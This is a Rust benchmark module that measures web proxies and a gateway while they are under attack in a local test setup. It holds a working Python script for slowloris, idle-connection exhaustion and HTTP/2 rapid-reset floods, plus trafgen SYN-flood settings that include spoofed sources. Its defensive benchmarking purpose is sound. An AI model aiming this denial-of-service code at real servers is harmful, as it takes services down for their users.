//! `cargo xtask bench --only attack`: each system while it is attacked. A steady legitimate
//! client (oha, open loop, a new connection per request) runs beside 2,000 slowloris
//! connections, 9,000 idle connections (what HAProxy's maxconn and the file limit allow here),
//! HTTP/2 rapid-reset clients over TLS, or a SYN flood (from one source, or spoofed from many)
//! at a VIP in network namespaces of the run, where the gateway's XDP program stands in front;
//! the figures are its success rate and p99, and the system's CPU and memory (and the kernel's
//! softirq time, for the floods) meanwhile. The connection attackers are one asyncio script on
//! the load CPU; the floods come from trafgen.

use std::io::BufRead;
use std::path::Path;
use std::process::{Command, Stdio};
use std::time::Duration;

use anyhow::{Context, Result, bail};

use super::fixtures::Fixtures;
use super::load::{self, OhaTarget};
use super::netns::{Net, VIP};
use super::sut::{self, Kind, Options, Sut};
use super::{Backend, Plan, Record, shuffled};
use crate::output;

/// The legitimate client's rate: well below every system's maximum, so that what it sees is
/// the attack's doing.
pub const LEGIT_RATE: u32 = 500;
const LEGIT_HOST: &str = "r7.bench.test";

/// Every attack as the results table names it: (test name, description).
pub const SCENARIOS: [(&str, &str); 6] = [
    ("A0-none", "A0 no attack"),
    ("A1-slowloris", "A1 2,000 slowloris"),
    ("A2-idle", "A2 9,000 idle connections"),
    ("A3-rapid-reset", "A3 HTTP/2 rapid reset"),
    ("A4-syn-flood", "A4 SYN flood from one source (250 kpps)"),
    (
        "A5-syn-flood-spoofed",
        "A5 SYN flood from 65,536 sources (250 kpps)",
    ),
];

/// The attacks of the attacker script: (test name, script mode, connections, on the TLS port).
const ATTACKS: [(&str, &str, usize, bool); 4] = [
    ("A0-none", "none", 0, false),
    ("A1-slowloris", "slowloris", 2_000, false),
    ("A2-idle", "idle", 9_000, false),
    ("A3-rapid-reset", "rapid-reset", 4, true),
];

const ATTACKER: &str = r#"
import asyncio, json, resource, ssl, struct, sys
hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
mode, port, count, seconds = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])
stats = {"opened": 0, "closed_by_server": 0, "goaways": 0, "streams_reset": 0}

async def slowloris():
    r, w = await asyncio.open_connection("127.0.0.1", port)
    stats["opened"] += 1
    w.write(b"GET / HTTP/1.1\r\nHost: r1.bench.test\r\n")
    await w.drain()
    i = 0
    while True:
        await asyncio.sleep(5)
        if r.at_eof():
            break
        w.write(b"X-%d: a\r\n" % i)
        i += 1
        await w.drain()
    stats["closed_by_server"] += 1

async def idle():
    r, w = await asyncio.open_connection("127.0.0.1", port)
    stats["opened"] += 1
    await r.read()
    stats["closed_by_server"] += 1

def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload

def literal(name, value):
    return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value

REQUEST = (literal(b":method", b"GET") + literal(b":scheme", b"https")
           + literal(b":authority", b"r1.bench.test") + literal(b":path", b"/"))

async def rapid_reset():
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    while True:
        r, w = await asyncio.open_connection("127.0.0.1", port, ssl=context, server_hostname="r1.bench.test")
        stats["opened"] += 1
        w.write(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0))
        gone = asyncio.Event()
        async def read():
            try:
                while True:
                    head = await r.readexactly(9)
                    length = int.from_bytes(head[:3], "big")
                    await r.readexactly(length)
                    if head[3] == 7:
                        stats["goaways"] += 1
                        break
            except Exception:
                pass
            gone.set()
        reader = asyncio.ensure_future(read())
        stream = 1
        try:
            while not gone.is_set() and stream < 2**31 - 200:
                batch = b""
                for _ in range(100):
                    batch += frame(1, 0x5, stream, REQUEST) + frame(3, 0, stream, b"\x00\x00\x00\x08")
                    stream += 2
                w.write(batch)
                stats["streams_reset"] += 100
                await w.drain()
                await asyncio.sleep(0)
        except Exception:
            pass
        stats["closed_by_server"] += 1
        reader.cancel()
        w.close()

async def main():
    attack = {"slowloris": slowloris, "idle": idle, "rapid-reset": rapid_reset}.get(mode)
    tasks = []
    for i in range(0, count, 500):
        for _ in range(min(500, count - i)):
            tasks.append(asyncio.ensure_future(attack()))
        await asyncio.sleep(0.2)
    await asyncio.sleep(1)
    print("ready", flush=True)
    await asyncio.sleep(seconds)
    print(json.dumps(stats), flush=True)

asyncio.run(main())
"#;

/// Runs the connection attacks (A0-A3) against every system; one record per system and attack.
pub fn run(plan: &Plan, fixtures: &Fixtures, gateway: &Path) -> Result<Vec<Record>> {
    let mut records = Vec::new();
    let window = plan.run.max(Duration::from_secs(10));
    for (test, mode, count, tls) in ATTACKS {
        for kind in shuffled(0) {
            let sut = Sut::start(kind, fixtures, gateway, Options::default())?;
            let port = if tls { kind.ports().1 } else { kind.ports().0 };
            let mut attacker = Command::new("taskset")
                .args(["-c", sut::LOAD_CPU, "python3", "-c", ATTACKER, mode])
                .args([
                    port.to_string(),
                    count.to_string(),
                    (window.as_secs() + 2).to_string(),
                ])
                .stdout(Stdio::piped())
                .stderr(Stdio::null())
                .spawn()
                .context("start the attacker")?;
            let mut lines = std::io::BufReader::new(attacker.stdout.take().context("stdout")?)
                .lines()
                .map_while(Result::ok);
            if lines.next().as_deref() != Some("ready") {
                let _ = attacker.kill();
                bail!("the {mode} attacker did not start");
            }
            let target = OhaTarget::loopback(kind.ports().0, LEGIT_HOST);
            let mut record = measure_legit(&sut, test, &target, window)?;
            let stats: serde_json::Value = lines
                .next()
                .and_then(|line| serde_json::from_str(&line).ok())
                .unwrap_or_default();
            let _ = attacker.kill();
            let _ = attacker.wait();
            for key in ["opened", "closed_by_server", "goaways", "streams_reset"] {
                if let Some(value) = stats[key].as_f64() {
                    record.set(&format!("attack_{key}"), value);
                }
            }
            println!("  {test:15} {:8}: attack {stats}", kind.name());
            records.push(record);
        }
    }
    Ok(records)
}

/// The SYN floods: (test name, the source address as trafgen byte expressions).
const FLOODS: [(&str, [&str; 4]); 2] = [
    ("A4-syn-flood", ["198", "18", "5", "5"]),
    ("A5-syn-flood-spoofed", ["198", "19", "drnd(1)", "drnd(1)"]),
];

/// SYNs per second in a flood: about half of what the generator can send on the veth, so that
/// the legitimate client on the same CPU still gets its turn.
const FLOOD_RATE: &str = "250000pps";

/// New connections per second one source may open on the gateway's VIP; the legitimate
/// client (one source at `LEGIT_RATE`) stays well inside it.
const SYN_BUDGET: &str = "2000/4000";

/// SYN floods from the generator namespace at each system's port on the VIP in the gateway
/// namespace: nginx and HAProxy behind the kernel's SYN cookies, the gateway behind its XDP
/// program (per-source SYN budget) and then the same SYN cookies. The legitimate client comes
/// from the generator namespace too.
pub fn syn_floods(plan: &Plan, fixtures: &Fixtures, gateway: &Path) -> Result<Vec<Record>> {
    let window = plan.run.max(Duration::from_secs(10));
    let net = Net::create()?;
    let _backend = Net::within(&net.gw_ns, Backend::start)?;
    let mut records = Vec::new();
    for (test, source) in FLOODS {
        for kind in shuffled(0) {
            let port = kind.ports().0;
            let vip = match kind {
                Kind::Gateway => [
                    "--vip",
                    &format!("{VIP}:{port}=http"),
                    // The mode the gateway picks itself (generic, on veth).
                    "--xdp-iface",
                    "veth-gw",
                    "--syn-budget",
                    SYN_BUDGET,
                    "--bpf-pin-dir",
                    &net.pin_dir.to_string_lossy(),
                ]
                .map(String::from)
                .to_vec(),
                _ => Vec::new(),
            };
            let options = Options {
                vip: Some(vip),
                ..Options::default()
            };
            let sut = Net::within(&net.gw_ns, || Sut::start(kind, fixtures, gateway, options))?;
            let config = net.syn_flood_config(test, source, port)?;
            let flood = net.flood(&config, Some(FLOOD_RATE))?;
            std::thread::sleep(Duration::from_secs(1));
            let softirq = softirq_seconds()?;
            let target = OhaTarget {
                address: VIP,
                port,
                host: LEGIT_HOST,
            };
            let measured = Net::within(&net.gen_ns, || measure_legit(&sut, test, &target, window));
            let softirq = softirq_seconds()? - softirq;
            drop(flood);
            let _ = std::fs::remove_file(config);
            let dropped = (kind == Kind::Gateway)
                .then(|| syn_budget_drops(gateway, &net.pin_dir))
                .transpose();
            drop(sut);
            if kind == Kind::Gateway {
                output(
                    Command::new(gateway)
                        .args(["bpf", "detach", "--bpf-pin-dir"])
                        .arg(&net.pin_dir),
                )?;
            }
            let mut record = measured?;
            record.set("softirq_cpu_s", softirq);
            let dropped = dropped?;
            if let Some(dropped) = dropped {
                record.set("xdp_dropped_syn_budget", dropped as f64);
            }
            println!(
                "  {test:15} {:8}: kernel softirq {softirq:.2} CPU-s (all CPUs), SYNs over the XDP budget {}",
                kind.name(),
                dropped.map_or("-".to_string(), |d| d.to_string())
            );
            records.push(record);
        }
    }
    Ok(records)
}

/// The legitimate client for `window` against a system under attack: its success rate and
/// p99, and the system's CPU and memory meanwhile.
fn measure_legit(
    sut: &Sut,
    test: &str,
    target: &OhaTarget<'_>,
    window: Duration,
) -> Result<Record> {
    let cpu = sut.cpu_seconds();
    let legit = load::oha_fresh_connections(target, window, 8, Some(LEGIT_RATE))?;
    let used = sut.cpu_seconds() - cpu;
    let pss = sut.pss_bytes();
    let ok = legit.ok.unwrap_or(0.0);
    let success = 100.0 * ok / (ok + legit.errors).max(1.0);
    let mut record = Record::new(sut.kind.name(), test, 0);
    record
        .measured(&legit)
        .set("success_pct", success)
        .set("sut_cpu_s", used)
        .set("pss_bytes", pss as f64);
    println!(
        "  {test:15} {:8}: legit {success:.2}% ok, p99 {:.2} ms; SUT CPU {used:.2} s, Pss {:.1} MiB",
        sut.kind.name(),
        legit.p99_ms.unwrap_or(0.0),
        pss as f64 / (1024.0 * 1024.0),
    );
    Ok(record)
}

/// SYNs the gateway's XDP program dropped over the SYN budget so far.
fn syn_budget_drops(gateway: &Path, pin_dir: &Path) -> Result<u64> {
    let json = output(
        Command::new(gateway)
            .args(["bpf", "stats", "--json", "--bpf-pin-dir"])
            .arg(pin_dir),
    )?;
    let stats: serde_json::Value = serde_json::from_str(&json)?;
    Ok(stats["listeners"]
        .as_array()
        .into_iter()
        .flatten()
        .filter_map(|l| l["counters"]["dropped_syn_budget"]["packets"].as_u64())
        .sum())
}

/// CPU seconds all CPUs have spent in softirq so far (/proc/stat): where the kernel handles
/// packets, SYN cookies included.
fn softirq_seconds() -> Result<f64> {
    let stat = std::fs::read_to_string("/proc/stat")?;
    let ticks: f64 = stat
        .lines()
        .next()
        .and_then(|cpu| cpu.split_whitespace().nth(7))
        .and_then(|t| t.parse().ok())
        .context("/proc/stat has no softirq field")?;
    Ok(ticks / 100.0)
}
